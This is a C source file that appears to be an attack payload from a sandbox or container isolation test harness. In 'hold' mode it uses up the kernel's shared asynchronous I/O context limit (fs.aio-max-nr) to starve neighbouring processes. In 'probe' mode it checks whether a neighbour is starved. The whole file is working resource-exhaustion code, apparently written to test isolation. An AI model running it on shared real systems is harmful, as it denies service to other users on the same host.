// Reserves contexts for asynchronous I/O, of which the kernel has one supply for all
// (fs.aio-max-nr). argv: hold CAP SECONDS | probe (a neighbour who wants one: SUCCEEDED if he is
// starved)
#include "payload.h"

static void attack(int argc, char** argv) {
  const char* verb = need(argc, argv, 1);
  unsigned long context = 0;
  if (!strcmp(verb, "probe")) {
    if (syscall(SYS_io_setup, 1, &context) < 0 && errno == EAGAIN) succeeded("starved: EAGAIN");
    blocked_because("FREE a neighbour is not starved");
  }
  int cap = atoi(need(argc, argv, 2)), count = 0;
  for (int size = 4096; size > 0; size /= 2) {
    for (context = 0; count < cap && syscall(SYS_io_setup, size, &context) == 0; context = 0) {
      count += size;
    }
  }
  printf("HOLDING %d\n", count);
  fflush(stdout);
  sleep((unsigned)atoi(need(argc, argv, 3)));
  if (count >= cap / 2) succeeded("%d events", count);
  blocked_because("EAGAIN stopped at %d events", count);
}
